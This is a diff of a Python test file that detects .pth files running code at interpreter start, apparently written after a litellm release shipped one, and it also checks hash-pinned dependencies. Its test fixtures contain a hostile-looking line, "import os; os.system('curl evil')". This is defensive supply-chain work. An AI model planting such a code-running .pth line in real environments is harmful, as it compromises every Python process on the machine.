@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -28,49 +29,47 @@ def test_cli_start_does_not_import_heavy_libraries() -> None:
     assert out.stdout.strip() == ""
 
 
-# coverage (a dev dependency, pinned) installs this startup hook: it starts measuring in a
-# subprocess only when COVERAGE_PROCESS_START or COVERAGE_PROCESS_CONFIG is set, else does nothing.
-# Allowed by name AND exact content: a file of that name doing anything else is still reported.
-COVERAGE_PTH = (
-    "a1_coverage.pth",
-    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START")'
-    ' or os.getenv("COVERAGE_PROCESS_CONFIG"):'
-    '\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')',
-)
+def pth_files_running_code(folders: list[str]) -> list[str]:
+    """Names of the `*.pth` files in `folders` that run code at interpreter start.
 
-
-def unexpected_pth_files(folders: list[str]) -> list[str]:
-    """Names of the `*.pth` files in `folders` that are neither packaging's own nor coverage's exact hook."""
-    allowed_prefixes = ("distutils-precedence", "__editable__", "_virtualenv", "easy-install", "setuptools")
+    Python's `site` executes every line of a .pth that starts with `import` (followed by a space
+    or tab) and adds every other line to sys.path. litellm 1.82.8 shipped such a file (NOTES.md);
+    coverage and setuptools ship one each, which `make install` removes, and the project installs
+    itself as a plain path (editable_mode=compat). So no .pth may hold an import line at all.
+    """
     found = []
     for folder in folders:
         for pth in Path(folder).glob("*.pth"):
-            if pth.name.startswith(allowed_prefixes):
-                continue
-            if (pth.name, pth.read_text(encoding="utf-8", errors="replace").strip()) == COVERAGE_PTH:
-                continue
-            found.append(pth.name)
+            lines = pth.read_text(encoding="utf-8", errors="replace").splitlines()
+            if any(line.startswith(("import ", "import\t")) for line in lines):
+                found.append(pth.name)
     return sorted(found)
 
 
-def test_no_unexpected_pth_files_in_site_packages() -> None:
-    """litellm 1.82.8 shipped a .pth file that ran on every Python start (NOTES.md)."""
+def test_no_pth_file_in_site_packages_runs_code() -> None:
     import site
 
-    assert unexpected_pth_files(site.getsitepackages()) == [], "unexpected .pth files"
+    assert pth_files_running_code(site.getsitepackages()) == [], "a .pth file runs code at every start"
 
 
-def test_a_pth_file_named_like_coverages_hook_but_doing_more_is_reported(tmp_path: Path) -> None:
-    name, hook = COVERAGE_PTH
-    (tmp_path / "good").mkdir()
-    (tmp_path / "good" / name).write_text(hook + "\n", encoding="utf-8")
-    assert unexpected_pth_files([str(tmp_path / "good")]) == []
-    (tmp_path / "bad").mkdir()
-    (tmp_path / "bad" / name).write_text(hook + "; import os; os.system('curl evil')\n", encoding="utf-8")
-    (tmp_path / "bad" / "litellm_init.pth").write_text("import os\n", encoding="utf-8")
-    (tmp_path / "bad" / "a1_coverage_extra.pth").write_text(hook + "\n", encoding="utf-8")
-    found = unexpected_pth_files([str(tmp_path / "bad")])
-    assert found == ["a1_coverage.pth", "a1_coverage_extra.pth", "litellm_init.pth"]
+def test_a_pth_file_that_imports_is_reported_and_a_path_line_is_not(tmp_path: Path) -> None:
+    (tmp_path / "path_only.pth").write_text("/work/project\n# a comment\n", encoding="utf-8")
+    (tmp_path / "litellm_init.pth").write_text("import os; os.system('curl evil')\n", encoding="utf-8")
+    (tmp_path / "a1_coverage.pth").write_text("import sys; exec('...')\n", encoding="utf-8")
+    (tmp_path / "tabbed.pth").write_text("/x\nimport\tos\n", encoding="utf-8")
+    assert pth_files_running_code([str(tmp_path)]) == ["a1_coverage.pth", "litellm_init.pth", "tabbed.pth"]
+
+
+def test_the_lock_pins_every_package_with_hashes_and_pins_pip_and_setuptools() -> None:
+    """`pip install --require-hashes -r requirements.lock` (the Makefile) needs a hash on every pin."""
+    text = (ROOT / "requirements.lock").read_text(encoding="utf-8")
+    pins = re.findall(r"^([A-Za-z0-9][A-Za-z0-9._-]*)==(\S+)", text, flags=re.M)
+    names = {n.lower() for n, _ in pins}
+    assert {"pip", "setuptools", "litellm", "textual"} <= names
+    blocks = re.split(r"^(?=[A-Za-z0-9])", text, flags=re.M)
+    unhashed = [b.split()[0] for b in blocks if "==" in b.split("\n")[0] and "--hash=sha256:" not in b]
+    assert unhashed == []
+    assert "--require-hashes" in (ROOT / "Makefile").read_text(encoding="utf-8")
 
 
 def test_litellm_pin_is_a_checked_release() -> None:
